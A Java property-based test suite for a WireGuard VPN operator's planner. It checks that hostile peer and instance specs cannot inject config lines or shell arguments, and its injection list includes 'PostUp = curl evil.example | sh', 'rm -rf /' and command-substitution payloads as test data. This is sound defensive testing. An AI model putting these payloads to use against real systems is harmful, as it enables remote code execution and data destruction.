package io.peerwarden.core.plan;

import static io.peerwarden.core.plan.PlanFixtures.NODE;
import static io.peerwarden.core.plan.PlanFixtures.allowed;
import static io.peerwarden.core.plan.PlanFixtures.condition;
import static io.peerwarden.core.plan.PlanFixtures.decode;
import static io.peerwarden.core.plan.PlanFixtures.instance;
import static io.peerwarden.core.plan.PlanFixtures.nodes;
import static io.peerwarden.core.plan.PlanFixtures.peer;
import static io.peerwarden.core.plan.PlanFixtures.site;
import static org.assertj.core.api.Assertions.assertThat;

import io.peerwarden.api.v1alpha1.ConditionTypes;
import io.peerwarden.api.v1alpha1.InstanceRef;
import io.peerwarden.api.v1alpha1.Labels;
import io.peerwarden.api.v1alpha1.PeerCounts;
import io.peerwarden.api.v1alpha1.PresharedKeySpec;
import io.peerwarden.api.v1alpha1.Reasons;
import io.peerwarden.api.v1alpha1.SecretKeyRef;
import io.peerwarden.api.v1alpha1.VpnInstance;
import io.peerwarden.api.v1alpha1.VpnInstanceSpec;
import io.peerwarden.api.v1alpha1.VpnInstanceStatus;
import io.peerwarden.api.v1alpha1.VpnPeer;
import io.peerwarden.api.v1alpha1.VpnPeerSpec;
import io.peerwarden.api.v1alpha1.VpnPeerStatus;
import io.peerwarden.core.diff.PeerDiff;
import io.peerwarden.core.node.DesiredInterface;
import io.peerwarden.core.node.DesiredState;
import io.peerwarden.core.node.InterfacePlan;
import io.peerwarden.core.render.WgQuickConfigRenderer;
import io.peerwarden.core.status.ConditionState;
import io.peerwarden.core.text.SafeText;
import io.peerwarden.core.validation.InstanceSpecValidator;
import io.peerwarden.core.validation.PeerSpecValidator;
import io.peerwarden.core.validation.Problem;
import io.peerwarden.core.wg.WgCommands;
import java.nio.file.Path;
import java.time.Clock;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Builders;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterContainer;

/**
 * Hostile specs: shell metacharacters, line breaks, {@code [Peer]}/{@code PostUp =} injections, NUL,
 * U+2028/U+2029 and ANSI escapes in every string field of VpnPeerSpec and VpnInstanceSpec; huge lists;
 * non-canonical and IPv4-mapped CIDRs; empty and oversize keys; out-of-range numbers. Whatever they hold:
 * the planner never throws, an invalid spec gets a reason whose message names the field, no rendered
 * config and no {@code wg}/{@code ip} argument vector carries an injected line or a control character,
 * and the instance's other peers are planned exactly as without the hostile one.
 */
class HostileInputPropertiesTest {

    static final int PEER_TRIES = 10_000;
    static final int INSTANCE_TRIES = 1_500;

    private static final Clock CLOCK = Clock.fixed(PlanFixtures.T0, ZoneOffset.UTC);
    private static final Pattern CONFIG_LINE = Pattern.compile("\\[Interface]|\\[Peer]|"
            + "(PrivateKey|Address|DNS|MTU|PublicKey|PresharedKey|Endpoint|AllowedIPs|PersistentKeepalive) = [A-Za-z0-9+/=.:,\\[\\]% -]+|"
            + Pattern.quote(WgQuickConfigRenderer.PRIVATE_KEY_PLACEHOLDER) + "|");
    /** What a wg/ip argument may be: printable, no blank, no line break, not an option unless one of ours. */
    private static final Pattern ARGUMENT = Pattern.compile("[A-Za-z0-9._:/%\\[\\]=+,@-]+");
    private static final List<String> OUR_OPTIONS = List.of("-d", "-j", "-4", "-6");

    private static final AtomicLong PEERS_GENERATED = new AtomicLong();
    private static final AtomicLong INSTANCES_GENERATED = new AtomicLong();
    private static final AtomicLong NANOS = new AtomicLong();

    /** The instance's good peers, planned once with their Secrets in place: what every hostile run must leave exactly so. */
    private static final Baseline BASELINE = new Baseline();

    // ---- the properties ------------------------------------------------------------------------

    @Property(tries = PEER_TRIES)
    void aHostilePeerNeverBreaksThePlanTheConfigsTheArgvOrItsNeighbours(@ForAll("hostilePeers") VpnPeerSpec spec,
                                                                      @ForAll("seconds") int createdSecond) {
        long start = System.nanoTime();
        PEERS_GENERATED.incrementAndGet();
        VpnPeer hostile = peer("hostile", createdSecond, s -> copyInto(spec, s));
        List<VpnPeer> peers = new ArrayList<>(BASELINE.good);
        peers.add(hostile);

        PlanFixtures.FakeSecrets secrets = BASELINE.secrets();
        InstancePlan plan = BASELINE.planner().plan(BASELINE.instance, peers, secrets, new AllocationLedger(), nodes(NODE), List.of());

        PeerPlan mine = PlanFixtures.planOf(plan, "hostile");
        assertNoInternalError(plan);
        List<Problem> problems = new PeerSpecValidator().validate(hostile.getSpec(), BASELINE.pools);
        if (!problems.isEmpty()) {
            ConditionState valid = condition(mine, ConditionTypes.VALID);
            assertThat(valid.status()).isEqualTo("False");
            assertThat(valid.message()).as("names the field").contains(problems.get(0).field());
            assertThat(mine.secret()).isNull();
        }
        for (PeerPlan good : BASELINE.expected.peers()) {
            assertThat(PlanFixtures.planOf(plan, good.peer().getMetadata().getName())).as("a good peer, as without the hostile one")
                    .isEqualTo(good);
        }
        assertSafe(plan, secrets);
        NANOS.addAndGet(System.nanoTime() - start);
    }

    @Property(tries = INSTANCE_TRIES)
    void aHostileInstanceNeverBreaksThePlanTheConfigsOrTheArgv(@ForAll("hostileInstances") VpnInstanceSpec spec) {
        long start = System.nanoTime();
        INSTANCES_GENERATED.incrementAndGet();
        VpnInstance instance = instance("10.24.0.1/24");
        instance.setSpec(spec);
        PlanFixtures.FakeSecrets secrets = BASELINE.secrets();
        InstancePlan plan = BASELINE.planner().plan(instance, BASELINE.good.subList(0, 1), secrets,
                new AllocationLedger(), nodes(NODE), List.of());

        assertNoInternalError(plan);
        List<Problem> problems = new InstanceSpecValidator().validate(spec);
        if (!problems.isEmpty()) {
            assertThat(plan.usable()).isFalse();
            assertThat(plan.problem().status()).isEqualTo("False");
            assertThat(plan.problem().message()).as("names the field").contains(SafeText.escape(problems.get(0).field()));
            assertThat(plan.peers()).allSatisfy(p -> assertThat(p.secret()).isNull());
        }
        secrets.writeAll(plan);
        assertSafe(plan, secrets, instance);
        NANOS.addAndGet(System.nanoTime() - start);
    }

    @AfterContainer
    static void report() {
        System.out.printf("HostileInputPropertiesTest: %d hostile peer specs and %d hostile instance specs planned in %d ms%n",
                PEERS_GENERATED.get(), INSTANCES_GENERATED.get(), NANOS.get() / 1_000_000);
    }

    // ---- what must hold of any plan -----------------------------------------------------------

    private static void assertNoInternalError(InstancePlan plan) {
        assertThat(plan.peers()).allSatisfy(p -> assertThat(p.conditions()).noneMatch(c -> Reasons.INTERNAL_ERROR.equals(c.reason())));
        List<ConditionState> all = new ArrayList<>();
        plan.peers().forEach(p -> all.addAll(p.conditions()));
        if (plan.problem() != null) {
            all.add(plan.problem());
        }
        assertThat(all).allSatisfy(c -> assertThat(c.message().codePoints().noneMatch(SafeText::isUnsafe))
                .as("printable: %s", c.message()).isTrue());
    }

    private static void assertSafe(InstancePlan plan, PlanFixtures.FakeSecrets secrets) {
        secrets.writeAll(plan);
        assertSafe(plan, secrets, BASELINE.instance);
    }

    /** Every config rendered, and every argv the agent would run for what the operator wrote. */
    private static void assertSafe(InstancePlan plan, PlanFixtures.FakeSecrets written, VpnInstance instance) {
        for (PeerPlan p : plan.peers()) {
            if (p.secret() != null) {
                assertConfigSafe(decode(p.secret().data().get(Labels.CONFIG)));
            }
        }
        // the agent converges what the operator's status and Secrets say, whether or not the instance is usable
        VpnInstance applied = new VpnInstance();
        applied.setMetadata(instance.getMetadata());
        applied.setSpec(instance.getSpec());
        applied.setStatus(plan.applyTo(new VpnInstanceStatus(), 1L, new PeerCounts(), CLOCK));
        List<VpnPeer> peers = new ArrayList<>();
        for (PeerPlan p : plan.peers()) {
            VpnPeer withStatus = new VpnPeer();
            withStatus.setMetadata(p.peer().getMetadata());
            withStatus.setSpec(p.peer().getSpec());
            withStatus.setStatus(p.applyTo(new VpnPeerStatus(), CLOCK));
            peers.add(withStatus);
        }
        // what the operator publishes for the node's agent (NodeKeys), the agent's only key source
        InterfacePlan node = DesiredState.plan(applied, peers, entry -> java.util.Optional.ofNullable(plan.nodeKeys().get(entry)), true);
        for (List<String> argv : argvOf(node)) {
            assertThat(argv).allSatisfy(arg -> assertThat(ARGUMENT.matcher(arg).matches() && (!arg.startsWith("-") || OUR_OPTIONS.contains(arg)))
                    .as("argument %s of %s", SafeText.quote(arg), argv).isTrue());
        }
    }

    private static void assertConfigSafe(String config) {
        List<String> lines = config.lines().toList();
        assertThat(lines).allSatisfy(line -> assertThat(CONFIG_LINE.matcher(line).matches()).as("config line %s", SafeText.quote(line)).isTrue());
        assertThat(lines).filteredOn("[Interface]"::equals).hasSize(1);
        assertThat(lines).filteredOn("[Peer]"::equals).hasSize(1);
        assertThat(config).doesNotContain("PostUp").doesNotContain("PreUp").doesNotContain("PostDown").doesNotContain("PreDown");
    }

    /** The argument vectors the agent runs to converge the interface from nothing (InterfaceDriver's commands). */
    private static List<List<String>> argvOf(InterfacePlan node) {
        List<List<String>> argv = new ArrayList<>();
        DesiredInterface want = node.desired();
        if (want == null) {
            return argv;
        }
        argv.add(WgCommands.ipLinkAddWireguard(want.name()));
        argv.add(WgCommands.ipLinkSetAlias(want.name(), want.owner()));
        argv.add(WgCommands.wgSetInterface(want.name(), want.listenPort(), Path.of("/run/peerwarden/keys/private")));
        if (want.mtu() != null) {
            argv.add(WgCommands.ipLinkSetMtu(want.name(), want.mtu()));
        }
        want.addresses().forEach(a -> argv.add(WgCommands.ipAddressAdd(want.name(), a)));
        PeerDiff diff = PeerDiff.between(want.peers(), Map.of());
        WgCommands.wgSetPeers(want.name(), diff.wgSetArgs(psk -> Path.of("/run/peerwarden/keys/psk")), 100)
                .forEach(batch -> argv.add(batch.argv()));
        want.routes().keySet().forEach(r -> argv.add(WgCommands.ipRouteAdd(want.name(), r)));
        argv.add(WgCommands.ipLinkSetUp(want.name()));
        return argv;
    }

    // ---- the good peers and their settled state ------------------------------------------------

    private static final class Baseline {
        final VpnInstance instance = instance("10.24.0.1/24");
        final List<VpnPeer> good;
        final PlanFixtures.FakeSecrets settled = new PlanFixtures.FakeSecrets();
        final InstancePlan expected;
        final List<io.peerwarden.core.net.AddressPool> pools;

        Baseline() {
            instance.getSpec().setDns(List.of("10.24.0.1", "corp.example.com"));
            // seniority: created at 1, 3, 5, 7; the hostile peer is created at 0..8, so before, between or after them
            good = List.of(peer("good-a", 1), peer("good-b", 3, allowed("10.24.0.40/32")),
                    peer("good-c", 5, site("192.168.50.0/24")), peer("good-d", 7, s -> s.setDns(List.of("1.1.1.1"))));
            pools = new InstanceSpecValidator().pools(instance.getSpec());
            InstancePlan first = planner().plan(instance, good, settled, new AllocationLedger(), nodes(NODE), List.of());
            settled.writeAll(first);
            expected = planner().plan(instance, good, settled, new AllocationLedger(), nodes(NODE), List.of());
            assertThat(expected.peers()).allSatisfy(p -> assertThat(p.valid()).isTrue());
        }

        /** Deterministic keys whose public halves are derived once (X25519 is the costly part of a plan). */
        private static final KeySource KEYS = new KeySource() {
            private final PlanFixtures.FakeKeys fake = new PlanFixtures.FakeKeys();
            private final Map<String, String> publicKeys = new java.util.concurrent.ConcurrentHashMap<>();

            @Override
            public String generatePrivateKey() {
                return fake.generatePrivateKey();
            }

            @Override
            public String generatePresharedKey() {
                return fake.generatePresharedKey();
            }

            @Override
            public String publicKeyOf(String privateKey) {
                return publicKeys.computeIfAbsent(privateKey, fake::publicKeyOf);
            }
        };

        InstancePlanner planner() {
            return new InstancePlanner(KEYS);
        }

        /** A copy of the settled Secrets (keys, addresses, QR codes), for one run to read and write. */
        PlanFixtures.FakeSecrets secrets() {
            PlanFixtures.FakeSecrets copy = new PlanFixtures.FakeSecrets();
            copy.byName.putAll(settled.byName);
            return copy;
        }
    }

    // ---- generators ----------------------------------------------------------------------------

    /** Breaking out of a config line, a shell word, a log line or a terminal, and the things parsers trip on. */
    private static final List<String> INJECTIONS = List.of(
            "\nPostUp = curl evil.example | sh", "\n[Peer]\nPublicKey = AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
            "\r\nPostUp = id", "[Peer]", "PostUp = rm -rf /", "$(reboot)", "`id`", ";id", "|sh", "&&id", "'", "\"", "\\",
            " ", "\t", "\u0000", "\u2028", "\u2029", "\u0085", "\u007f", "\u001b[31m", "\u001b]0;pwned\u0007", "\u009b2J",
            "%0a", "\ufeff", "\ud800", "é", "🚀", "*", "?", "~", "#", "=", ",", "/", ":", "-", "--", "-rf", "..", "{}", "<>", "!");

    /** Values that pass (or nearly pass) each format, so injections ride on something plausible. */
    private static final List<String> PLAUSIBLE = List.of(
            "10.24.0.200/32", "10.24.0.201", "10.24.0.202/24", "010.24.0.203/32", "::ffff:10.24.0.204/128", "::ffff:10.24.0.205",
            "10.24.0.206/33", "fd00::1/129", "0.0.0.0/0", "::/0", "10.24.0.207/032", "10.24.0.208%eth0/32", "fe80::1%eth0/128",
            "172.16.0.0/12", "172.20.1.0/24", "::ffff:172.20.2.0/120", "1.1.1.1", "2606:4700::1111", "corp.example.com",
            "vpn.example.com:51820", "[2001:db8::7]:51820", "203.0.113.7:0", "203.0.113.7:65536", "office", "client", "site",
            "wireguard", "openvpn", "Generated", "Secret", "None", "privateKey", "my-secret", "wg0", "-wg", ".", "..",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB=", "");

    @Provide
    Arbitrary<Integer> seconds() {
        return Arbitraries.integers().between(0, 8);
    }

    static Arbitrary<String> hostileText() {
        Arbitrary<String> injection = Arbitraries.of(INJECTIONS);
        Arbitrary<String> plausible = Arbitraries.of(PLAUSIBLE);
        return Arbitraries.frequencyOf(
                Tuple.of(3, plausible),
                Tuple.of(3, injection),
                Tuple.of(6, net.jqwik.api.Combinators.combine(plausible, injection, plausible).as((a, i, b) -> a + i + b)),
                Tuple.of(2, net.jqwik.api.Combinators.combine(injection, plausible).as((i, a) -> i + a)),
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(24)),
                Tuple.of(1, Arbitraries.strings().withCharRange('a', 'z').ofMinLength(250).ofMaxLength(2_000)),
                Tuple.of(1, Arbitraries.strings().withChars("0123456789abcdef:./").ofMinLength(20).ofMaxLength(80)));
    }

    static Arbitrary<String> maybe(Arbitrary<String> text) {
        return text.injectNull(0.2);
    }

    static Arbitrary<List<String>> hostileList() {
        Arbitrary<String> entry = hostileText();
        return Arbitraries.frequencyOf(
                Tuple.of(2, Arbitraries.just((List<String>) null)),
                Tuple.of(1, Arbitraries.just(List.of())),
                Tuple.of(10, entry.list().ofMinSize(1).ofMaxSize(4)),
                Tuple.of(1, entry.map(e -> Collections.nCopies(300, e))),
                Tuple.of(1, Arbitraries.integers().between(17, 2_000).map(n -> Collections.nCopies(n, "10.24.0.250/32"))));
    }

    static Arbitrary<Integer> hostileNumber() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.just((Integer) null)),
                Tuple.of(3, Arbitraries.of(Integer.MIN_VALUE, -1, 0, 1, 1279, 1280, 1420, 9000, 9001, 65535, 65536, Integer.MAX_VALUE)),
                Tuple.of(1, Arbitraries.integers()));
    }

    static Arbitrary<String> hostileKey() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.just((String) null)),
                Tuple.of(1, Arbitraries.of("", "=", "A".repeat(43), "A".repeat(45) + "=", "A".repeat(42) + "B=",
                        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n", "A".repeat(10_000))),
                Tuple.of(2, hostileText()));
    }

    static Arbitrary<SecretKeyRef> hostileRef() {
        return Builders.withBuilder(SecretKeyRef::new)
                .use(maybe(hostileText())).in((r, v) -> {
                    r.setName(v);
                    return r;
                })
                .use(maybe(hostileText())).in((r, v) -> {
                    r.setKey(v);
                    return r;
                })
                .build().injectNull(0.6);
    }

    @Provide
    Arbitrary<VpnPeerSpec> hostilePeers() {
        return Builders.withBuilder(VpnPeerSpec::new)
                .use(hostileText().injectNull(0.1)).in((s, v) -> set(s, x -> x.setInstanceRef(v == null ? null : new InstanceRef(v))))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> x.setType(v)))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> x.setDisplayName(v)))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> x.setUserId(v)))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> x.setSiteId(v)))
                .use(hostileList()).in((s, v) -> set(s, x -> x.setAllowedIPs(v)))
                .use(hostileList()).in((s, v) -> set(s, x -> x.setSubnets(v)))
                .use(Arbitraries.of(true, false).injectNull(0.5)).in((s, v) -> set(s, x -> x.setRouteAll(v)))
                .use(hostileList()).in((s, v) -> set(s, x -> x.setEndpointAllowedIPs(v)))
                .use(hostileList()).in((s, v) -> set(s, x -> x.setDns(v)))
                .use(hostileNumber()).in((s, v) -> set(s, x -> x.setMtu(v)))
                .use(hostileNumber()).in((s, v) -> set(s, x -> x.setPersistentKeepalive(v)))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> x.setEndpoint(v)))
                .use(hostileKey()).in((s, v) -> set(s, x -> x.setPublicKey(v)))
                .use(hostileRef()).in((s, v) -> set(s, x -> x.setPrivateKeySecretRef(v)))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> x.setPresharedKey(v == null ? null : new PresharedKeySpec(v, null))))
                .use(hostileRef()).in((s, v) -> set(s, x -> {
                    if (v != null) {
                        x.setPresharedKey(new PresharedKeySpec(x.getPresharedKey() == null ? null : x.getPresharedKey().getMode(), v));
                    }
                }))
                .use(Arbitraries.of(true, false).injectNull(0.5)).in((s, v) -> set(s, x -> x.setRestricted(v)))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> x.setProtocol(v)))
                .build();
    }

    @Provide
    Arbitrary<VpnInstanceSpec> hostileInstances() {
        return Builders.withBuilder(() -> {
                    VpnInstanceSpec spec = new VpnInstanceSpec();
                    spec.setAddress(List.of("10.24.0.1/24"));
                    spec.setNodeName(NODE);
                    spec.setEndpoint("vpn.example.com");
                    return spec;
                })
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> x.setProtocol(v)))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> x.setInterfaceName(v)))
                .use(hostileList()).in((s, v) -> set(s, x -> {
                    if (v == null || !v.isEmpty() && v.size() < 3 && Math.abs(v.hashCode()) % 3 == 0) {
                        return; // keep the valid pool a third of the time, so the peers' configs get rendered
                    }
                    x.setAddress(v);
                }))
                .use(hostileNumber()).in((s, v) -> set(s, x -> x.setListenPort(v)))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> {
                    if (v != null) {
                        x.setEndpoint(v);
                    }
                }))
                .use(hostileList()).in((s, v) -> set(s, x -> x.setDns(v)))
                .use(hostileNumber()).in((s, v) -> set(s, x -> x.setMtu(v)))
                .use(hostileNumber()).in((s, v) -> set(s, x -> x.setPersistentKeepalive(v)))
                .use(hostileRef()).in((s, v) -> set(s, x -> x.setPrivateKeySecretRef(v)))
                .use(maybe(hostileText())).in((s, v) -> set(s, x -> {
                    if (v != null) {
                        x.setNodeName(v);
                    }
                }))
                .use(hostileText().list().ofMaxSize(20).injectNull(0.7)).in((s, v) -> set(s, x -> {
                    if (v != null) {
                        Map<String, String> selector = new LinkedHashMap<>();
                        for (int i = 0; i + 1 < v.size(); i += 2) {
                            selector.put(v.get(i), v.get(i + 1));
                        }
                        x.setNodeSelector(selector);
                    }
                }))
                .build();
    }

    private static <T> T set(T target, java.util.function.Consumer<T> setter) {
        setter.accept(target);
        return target;
    }

    private static void copyInto(VpnPeerSpec from, VpnPeerSpec to) {
        to.setInstanceRef(from.getInstanceRef());
        to.setType(from.getType());
        to.setDisplayName(from.getDisplayName());
        to.setUserId(from.getUserId());
        to.setSiteId(from.getSiteId());
        to.setAllowedIPs(from.getAllowedIPs());
        to.setSubnets(from.getSubnets());
        to.setRouteAll(from.getRouteAll());
        to.setEndpointAllowedIPs(from.getEndpointAllowedIPs());
        to.setDns(from.getDns());
        to.setMtu(from.getMtu());
        to.setPersistentKeepalive(from.getPersistentKeepalive());
        to.setEndpoint(from.getEndpoint());
        to.setPublicKey(from.getPublicKey());
        to.setPrivateKeySecretRef(from.getPrivateKeySecretRef());
        to.setPresharedKey(from.getPresharedKey());
        to.setRestricted(from.getRestricted());
        to.setProtocol(from.getProtocol());
    }
}
